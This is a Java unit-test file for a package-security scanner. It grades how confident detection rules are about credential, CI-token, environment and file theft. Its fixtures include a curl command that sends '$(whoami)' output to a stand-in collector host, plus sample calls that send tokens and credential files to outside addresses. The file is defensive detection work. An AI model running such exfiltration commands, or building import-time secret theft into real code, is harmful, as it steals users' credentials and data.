package dev.assay.core.detector.code;

import static dev.assay.core.detector.code.Acts.act;
import static dev.assay.core.detector.code.Acts.evident;
import static dev.assay.core.detector.code.Acts.onCall;
import static dev.assay.core.detector.code.Acts.told;
import static dev.assay.core.detector.code.Grades.findings;
import static dev.assay.core.detector.code.Grades.grade;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Kind;
import dev.assay.core.fact.Act.Label;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.finding.Confidence;
import java.util.List;
import org.junit.jupiter.api.Test;

/// How sure rules are that something is stolen, and what services and their clients do instead.
class TheftGradesTest {
  private static final String STRANGER = "https://collect.example/in";
  private static final String QUIETLY = "errors swallowed";
  private static final String BARE = "http://203.0.113.9:8080/a";

  @Test
  void aClientSendsTheSecretToTheServiceThatItSpeaksToMost() {
    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER);
    Act other = act(Kind.SENDS, "https://collect.example/orders", Phase.CALL);
    assertThat(grade("secret-parameter-theft", secret)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("secret-parameter-theft", secret, other, other, other, other))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("secret-parameter-theft", told(secret, QUIETLY))).isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "secret-parameter-theft",
                act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER, Label.HOST_IDENTITY)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aHelperThatAddsATokenWhereItBelongsIsNoThief() {
    Act toOwner = act(Kind.SENDS, "https://api.github.com/repos", Phase.CALL, Label.CI_TOKEN);
    Act toOther = act(Kind.SENDS, STRANGER, Phase.CALL, Label.CI_TOKEN);
    assertThat(grade("ci-token-theft", toOther)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("ci-token-theft", toOther, toOwner)).isEqualTo(Confidence.LOW);
  }

  @Test
  void aClientSendsWhatItReadsToTheServiceItIsNamedAfter() {
    String own = "https://api.app.example/v1";
    assertThat(
            grade("environment-exfiltration", act(Kind.SENDS, own, Phase.CALL, Label.ENVIRONMENT)))
        .isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "environment-exfiltration",
                act(Kind.SENDS, "https://requirements.example/v1", Phase.CALL, Label.ENVIRONMENT)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "credential-theft",
                act(
                    Kind.SENDS,
                    "https://requirements.example/v1",
                    Phase.CALL,
                    Label.CREDENTIAL_FILE)))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void sourceCodeThatIsOnlyCarriedAlongIsNoTheft() {
    Act carried = told(act(Kind.SENDS, STRANGER, Phase.CALL, Label.SOURCE_CODE), "in a thread");
    assertThat(grade("file-theft", carried)).isEqualTo(Confidence.LOW);
    Act files = told(act(Kind.SENDS, STRANGER, Phase.CALL, Label.USER_FILES), "in a thread");
    assertThat(grade("file-theft", files)).isEqualTo(Confidence.HIGH);
  }

  @Test
  void aBareAddressTellsMoreWhenItIsSpokenToQuietly() {
    assertThat(grade("bare-address", act(Kind.RECEIVES, BARE, Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("bare-address", told(act(Kind.SENDS, BARE, Phase.CALL), QUIETLY)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void whatAShellPrintsIsSentInTheAddress() {
    Act fetch = act(Kind.SPAWNS, "curl https://collect.example/?u=$(whoami)", Phase.CALL);
    Act request = act(Kind.RECEIVES, "https://collect.example/?u=$(whoami)", Phase.CALL);
    assertThat(grade("suspicious-command", fetch, request)).isEqualTo(Confidence.HIGH);
  }

  @Test
  void aHubOfManyServicesHandsEachItsOwnKey() {
    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER);
    Act[] acts = new Act[7];
    acts[0] = secret;
    for (int i = 1; i < acts.length; i++) {
      acts[i] = act(Kind.SENDS, "https://service%d.example/in".formatted(i), Phase.CALL);
    }
    assertThat(grade("secret-parameter-theft", acts)).isEqualTo(Confidence.LOW);
  }

  @Test
  void aVendorHandsOutFilesOfAnybodyAndIsStillTheVendor() {
    assertThat(
            findings(
                "secret-parameter-theft",
                act(
                    Kind.SENDS,
                    "https://github.com/a/b/archive/c.zip",
                    Phase.CALL,
                    Label.SECRET_PARAMETER)))
        .isEmpty();
    assertThat(
            grade(
                "secret-parameter-theft",
                act(
                    Kind.SENDS,
                    "https://collector.workers.dev",
                    Phase.CALL,
                    Label.SECRET_PARAMETER)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aKeyThatIsDecodedIntoAnAddressHidesNoHost() {
    Act fetch = act(Kind.RECEIVES, "https://collect.example/?key=…", Phase.CALL, Label.DECODED);
    assertThat(grade("hidden-behaviour", fetch)).isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "hidden-behaviour",
                evident(fetch, "get(f'https://collect.example/?key={decrypt(KEY)}')")))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void aTokenIsAskedForWithTheSecretOfTheClient() {
    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER);
    assertThat(
            grade(
                "secret-parameter-theft",
                evident(secret, "post(URL, data={'grant_type': 'refresh_token'})")))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void sourceCodeThatIsCarriedAlongOverPlainHttpIsNoTheft() {
    String plain = "http://collect.example/in";
    assertThat(grade("file-theft", act(Kind.SENDS, plain, Phase.CALL, Label.SOURCE_CODE)))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("file-theft", act(Kind.SENDS, plain, Phase.CALL, Label.USER_FILES)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void whoLooksWhetherTheNetworkIsThereAsksForNothing() {
    assertThat(grade("bare-address", act(Kind.RECEIVES, "http://203.0.113.9", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("bare-address", act(Kind.RECEIVES, "http://203.0.113.9", Phase.IMPORT)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aConnectionThatTellsOnesOwnAddressGoesNowhere() {
    assertThat(grade("bare-address", act(Kind.SENDS, "203.0.113.9:53", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("bare-address", told(act(Kind.SENDS, "203.0.113.9:53", Phase.CALL), QUIETLY)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aKeyAmongTheHeadersOfAQuestionIsHowServicesAreAsked() {
    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER, Label.HOST_IDENTITY);
    Act asks = evident(secret, "requests.get(URL, headers=headers)");
    assertThat(grade("secret-parameter-theft", asks)).isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "secret-parameter-theft",
                evident(secret, "requests.get(URL, headers=headers, params=given)")))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aKeyThatIsSentByTheImportItselfIsStolen() {
    Act always = act(Kind.SENDS, STRANGER, Phase.IMPORT, Label.TOKEN);
    assertThat(grade("credential-theft", always)).isEqualTo(Confidence.HIGH);
    assertThat(grade("credential-theft", perhaps(always))).isEqualTo(Confidence.MEDIUM);
    assertThat(findings("credential-theft", act(Kind.SENDS, STRANGER, Phase.CALL, Label.TOKEN)))
        .isEmpty();
  }

  @Test
  void theTokenOfABuildLeavesNoImport() {
    Act sent = act(Kind.SENDS, STRANGER, Phase.IMPORT, Label.CI_TOKEN);
    Act toOwner = act(Kind.SENDS, "https://api.github.com/x", Phase.IMPORT, Label.CI_TOKEN);
    assertThat(grade("ci-token-theft", perhaps(sent), toOwner)).isEqualTo(Confidence.HIGH);
    assertThat(grade("ci-token-theft", act(Kind.SENDS, STRANGER, Phase.CALL, Label.CI_TOKEN)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void noClientSendsKeysWhenItsModuleIsImported() {
    String own = "https://requirements.example/v1";
    for (Label key : List.of(Label.CREDENTIAL_FILE, Label.CLOUD_METADATA)) {
      Act sent = act(Kind.SENDS, own, Phase.IMPORT, key);
      assertThat(grade("credential-theft", onCall(sent))).isEqualTo(Confidence.HIGH);
      assertThat(grade("credential-theft", act(Kind.SENDS, own, Phase.CALL, key)))
          .isEqualTo(Confidence.LOW);
    }
    Act token = act(Kind.SENDS, STRANGER, Phase.IMPORT, Label.TOKEN);
    assertThat(grade("credential-theft", onCall(token))).isEqualTo(Confidence.MEDIUM);
    Act environment = act(Kind.SENDS, own, Phase.IMPORT, Label.ENVIRONMENT);
    assertThat(grade("environment-exfiltration", onCall(environment))).isEqualTo(Confidence.HIGH);
    Act asked = act(Kind.SENDS, own, Phase.CALL, Label.ENVIRONMENT);
    assertThat(grade("environment-exfiltration", asked)).isEqualTo(Confidence.LOW);
  }

  /// The act where it hangs on a condition.
  private static Act perhaps(Act act) {
    return new Act(
        act.kind(),
        act.target(),
        act.phase(),
        Act.Reach.CONDITIONAL,
        act.certainty(),
        act.carries(),
        act.location(),
        act.evidence(),
        act.trail());
  }
}
